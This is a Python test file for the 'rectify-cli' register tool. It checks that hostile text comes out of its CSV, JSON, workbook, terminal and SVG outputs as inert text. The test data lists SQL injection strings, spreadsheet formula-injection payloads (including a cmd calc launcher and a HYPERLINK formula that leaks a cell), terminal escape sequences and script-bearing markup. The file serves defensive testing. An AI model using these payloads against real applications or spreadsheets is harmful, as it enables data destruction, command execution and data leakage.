#!/usr/bin/python3
# test-cli-hostile.py
#
# Copyright 2026 The Rectify authors
#
# SPDX-License-Identifier: GPL-3.0-or-later
#
# Hostile text out of a register (issue #9): a register full of SQL injection, spreadsheet
# formulas, control characters, markup and a 1 MB statement (written through the core API by
# `test-hostile --write`), and the same through `rectify-cli import`, comes out of
# `rectify-cli list` (text, csv, json), `show`, `export` (read back with openpyxl: text cells,
# never formulas) and `fishbone` (PNG, SVG, PDF) as inert text: no control character reaches a
# terminal, no CSV or workbook cell is a formula, the JSON is valid and exact, the SVG has no
# script. A findings file that is not UTF-8 is refused with the line it goes wrong on.
#
# Environment: RECTIFY_CLI, RECTIFY_HOSTILE (the test-hostile program).

import csv
import functools
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
import unittest
import xml.etree.ElementTree as ET
import zipfile

CLI = os.environ.get('RECTIFY_CLI')
HOSTILE = os.environ.get('RECTIFY_HOSTILE')
ENV = dict(os.environ, LC_ALL='C.UTF-8', LANGUAGE='')
ENV.setdefault('RECTIFY_TODAY', '2026-06-15')

csv.field_size_limit(1 << 24)

try:
    import openpyxl
except ImportError:
    openpyxl = None

# The texts of tests/test-hostile.c
HOSTILE_TEXTS = [
    "'); DROP TABLE nonconformity; --",
    "Robert'); DELETE FROM history WHERE ('1'='1",
    "\" OR 1=1 -- ; SELECT * FROM sqlite_schema",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click me\")",
    "\tTab then =1+1",
    "Bell\a Escape\x1b[31mred\x1b[0m Backspace\b DEL\x7f C1\x9b2J end",
    "<script>alert(1)</script> & <svg onload=\"alert(1)\"> ]]> &amp; \"quoted\"",
    "NEAR(audit review) title:access ^start prefix* -minus AND OR NOT \"phrase",
    "Line one\nLine two\r\nLine three\rafter a CR",
]
FORMULA_STARTS = ('=', '+', '-', '@', '\t', '\r')
# what a terminal acts on: C0 controls but new line and tab, DEL, C1 controls
# (a CR is kept before a LF: the line ends of CSV)
TERMINAL_CONTROL = re.compile('[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)')


@functools.lru_cache
def long_statement():
    """The 1 MB statement of test-hostile.c: a formula start, words up to 1 MB, a last word."""
    words = 'lorem ipsum dolor sit amet '
    return '=1+1 ' + words * -(-(1024 * 1024 - 5) // len(words)) + 'zyxwvutsend'


def printable(text):
    """What rectify-cli shows of @text on a terminal (rectify-cli-output.c)."""
    out = []
    for i, c in enumerate(text):
        o = ord(c)
        if c in '\n\t' or (c == '\r' and text[i + 1:i + 2] == '\n'):
            out.append(c)
        elif o < 0x20:
            out.append(chr(0x2400 + o))
        elif o == 0x7f:
            out.append('\u2421')
        elif 0x80 <= o < 0xa0:
            out.append('\ufffd')
        else:
            out.append(c)
    return ''.join(out)


def run(*args, timeout=120):
    proc = subprocess.run([CLI] + [str(a) for a in args], env=ENV, capture_output=True,
                          timeout=timeout)
    return proc.returncode, proc.stdout.decode('utf-8'), proc.stderr.decode('utf-8')


def unescape_ooxml(text):
    """Excel's _xHHHH_ escapes of control characters (as libxlsxwriter writes them)."""
    return re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), text)


@unittest.skipIf(not CLI or not HOSTILE, 'RECTIFY_CLI or RECTIFY_HOSTILE is not set')
class HostileOutputTest(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix='rectify-hostile-')
        cls.reg = os.path.join(cls.tmp, 'hostile.rectify')
        subprocess.run([HOSTILE, '--write', cls.reg], env=ENV, check=True)
        rc, out, err = run('list', cls.reg, '--format', 'json')
        if rc != 0:
            raise AssertionError(err)
        cls.ncs = json.loads(out)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp)

    def assert_terminal_safe(self, text, what):
        m = TERMINAL_CONTROL.search(text)
        self.assertIsNone(m, '%s: a control character %r reaches the terminal' % (
            what, m and m.group(0)))

    def test_json_exact(self):
        """JSON is valid and gives back every text exactly, control characters included."""
        self.assertEqual(len(self.ncs), len(HOSTILE_TEXTS) + 1)
        titles = [nc['title'] for nc in self.ncs]
        self.assertEqual(titles, HOSTILE_TEXTS + ['One megabyte'])
        for nc in self.ncs[:-1]:
            for field in ('statement', 'evidence', 'area', 'location', 'reported-by', 'owner',
                          'correction'):
                self.assertIn(nc[field], HOSTILE_TEXTS, field)
            self.assertEqual(nc['audit'], HOSTILE_TEXTS[7])
        self.assertEqual(self.ncs[-1]['statement'], long_statement())
        self.assertEqual(self.ncs[3]['ref'], '=1+1')
        rc, out, err = run('list', self.reg, '--format', 'json')
        # nothing but ASCII controls escaped: the raw output has none
        self.assert_terminal_safe(out, 'list --format json')

    def test_text_list_and_show(self):
        rc, out, err = run('list', self.reg)
        self.assertEqual(rc, 0, err)
        self.assert_terminal_safe(out, 'list')
        # one line per NC: no text breaks the table
        self.assertEqual(len(out.splitlines()), len(self.ncs) + 1)
        self.assertIn('Escape\u241b[31mred', out)
        for nc in self.ncs:
            rc, out, err = run('show', self.reg, nc['ref'])
            self.assertEqual(rc, 0, err)
            self.assert_terminal_safe(out + err, 'show %s' % nc['ref'])
        # the messages quote what was typed, made safe too
        rc, out, err = run('show', self.reg, 'NC-\x1b[2J\x07')
        self.assertEqual(rc, 2)
        self.assert_terminal_safe(err, 'show error')
        self.assertIn('NC-\u241b[2J\u2407', err)

    def test_csv_neutralises_formulas(self):
        rc, out, err = run('list', self.reg, '--format', 'csv')
        self.assertEqual(rc, 0, err)
        self.assert_terminal_safe(out, 'list --format csv')
        rows = list(csv.DictReader(io.StringIO(out, newline='')))
        self.assertEqual(len(rows), len(self.ncs))
        for row, nc in zip(rows, self.ncs):
            for field, value in row.items():
                self.assertFalse(value.startswith(FORMULA_STARTS),
                                 '%s %s is a formula: %r' % (nc['ref'], field, value[:40]))
                original = nc[field]
                if isinstance(original, str) and original.startswith(FORMULA_STARTS):
                    # shown as text by a spreadsheet
                    self.assertEqual(value, "'" + printable(original))
                elif isinstance(original, str):
                    self.assertEqual(value, printable(original))

    @unittest.skipIf(openpyxl is None, 'openpyxl is not installed')
    def test_workbook_cells_are_text(self):
        plan = os.path.join(self.tmp, 'plan.xlsx')
        rc, out, err = run('export', self.reg, plan)
        self.assertEqual(rc, 0, err)

        # every part is well-formed XML, and no cell holds a formula
        with zipfile.ZipFile(plan) as z:
            for name in z.namelist():
                if name.endswith('.xml') or name.endswith('.rels'):
                    ET.fromstring(z.read(name))
                if name.startswith('xl/worksheets/'):
                    self.assertNotIn(b'<f>', z.read(name), name)

        wb = openpyxl.load_workbook(plan)
        found = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, 'f', '%s!%s' % (ws.title, cell.coordinate))
                    if not isinstance(cell.value, str):
                        continue
                    value = unescape_ooxml(cell.value)
                    if value in HOSTILE_TEXTS:
                        self.assertEqual(cell.data_type, 's')
                        found.add(value)
                    if value.startswith('=1+1 lorem'):
                        # the 1 MB statement, cut to what a cell holds
                        self.assertLessEqual(len(value), 32767)
                        self.assertTrue(long_statement().startswith(value))
                        found.add('long')
        for text in HOSTILE_TEXTS[:8] + ['long']:
            self.assertIn(text, found, 'not in the workbook as a text cell')

    def test_fishbone_files(self):
        try:
            from PIL import Image
        except ImportError:
            Image = None
        for i, nc in enumerate(self.ncs[:-1]):
            png = os.path.join(self.tmp, 'fishbone-%d.png' % i)
            svg = os.path.join(self.tmp, 'fishbone-%d.svg' % i)
            for path in (png, svg):
                rc, out, err = run('fishbone', self.reg, nc['ref'], path)
                self.assertEqual(rc, 0, err)
                self.assert_terminal_safe(out + err, 'fishbone')
            if Image is not None:
                with Image.open(png) as im:
                    im.verify()
            root = ET.parse(svg).getroot()
            for element in root.iter():
                self.assertNotIn('script', element.tag.lower())
                self.assertNotIn('foreignobject', element.tag.lower())
                for name in element.attrib:
                    self.assertFalse(name.lower().startswith('on'), name)
        pdf = os.path.join(self.tmp, 'fishbone.pdf')
        rc, out, err = run('fishbone', self.reg, self.ncs[9]['ref'], pdf)
        self.assertEqual(rc, 0, err)
        with open(pdf, 'rb') as f:
            self.assertEqual(f.read(5), b'%PDF-')


@unittest.skipIf(not CLI, 'RECTIFY_CLI is not set')
class HostileImportTest(unittest.TestCase):

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix='rectify-hostile-import-')
        self.reg = os.path.join(self.tmp, 'register.rectify')
        rc, out, err = run('demo', self.reg, '--count', 5)
        self.assertEqual(rc, 0, err)

    def tearDown(self):
        shutil.rmtree(self.tmp)

    def test_import_hostile_findings(self):
        findings = os.path.join(self.tmp, 'findings.csv')
        with open(findings, 'w', newline='', encoding='utf-8') as f:
            w = csv.writer(f)
            w.writerow(['Finding No', 'Nonconformity', 'Evidence', 'Area', 'Control', 'Severity'])
            for i, text in enumerate(HOSTILE_TEXTS):
                w.writerow(['H-%d' % i, 'Finding %d: %s' % (i, text), text, text, 'A.5.15',
                            'Minor'])
            w.writerow(['H-big', long_statement(), 'Evidence', 'IT', '9.2', 'Major'])
            w.writerow(['=2+2', 'A finding whose number is a formula', '', '', '9.2', 'Minor'])
        rc, out, err = run('import', self.reg, findings, '--audit', '=cmd|\' /C calc\'!A0')
        self.assertEqual(rc, 0, err)
        self.assert_terminal_safe_all(out + err)
        self.assertEqual(run('verify', self.reg)[:2], (0, 'OK\n'))

        rc, out, err = run('list', self.reg, '--format', 'json')
        ncs = {nc['ref']: nc for nc in json.loads(out)}
        self.assertEqual(len(ncs), 5 + len(HOSTILE_TEXTS) + 2)
        for i, text in enumerate(HOSTILE_TEXTS):
            nc = ncs['H-%d' % i]
            # the text is kept (the import trims the ends of a value)
            self.assertIn(text.strip().split('\n')[0].strip(), nc['statement'])
            self.assertEqual(nc['audit'], '=cmd|\' /C calc\'!A0')
        self.assertEqual(ncs['H-big']['statement'], long_statement())
        self.assertIn('=2+2', ncs)

        rc, out, err = run('list', self.reg, '--format', 'csv')
        for row in csv.reader(io.StringIO(out, newline='')):
            for value in row:
                self.assertFalse(value.startswith(FORMULA_STARTS), value[:40])

    def assert_terminal_safe_all(self, text):
        self.assertIsNone(TERMINAL_CONTROL.search(text))

    def test_import_refuses_invalid_utf8(self):
        findings = os.path.join(self.tmp, 'latin1.csv')
        with open(findings, 'wb') as f:
            f.write(b'Finding No,Nonconformity,Control,Severity\r\n')
            f.write(b'F-1,A good finding,A.5.1,Minor\r\n')
            f.write(b'F-2,Pr\xfcfung der Zugriffsrechte fehlt,A.5.15,Minor\r\n')
        before = run('list', self.reg, '--format', 'json')[1]
        rc, out, err = run('import', self.reg, findings)
        self.assertEqual(rc, 2)
        self.assertIn('latin1.csv:3:', err)
        self.assertIn('not UTF-8', err)
        self.assertIn('nothing was imported', err)
        self.assertEqual(run('list', self.reg, '--format', 'json')[1], before)


if __name__ == '__main__':
    unittest.main(verbosity=2)
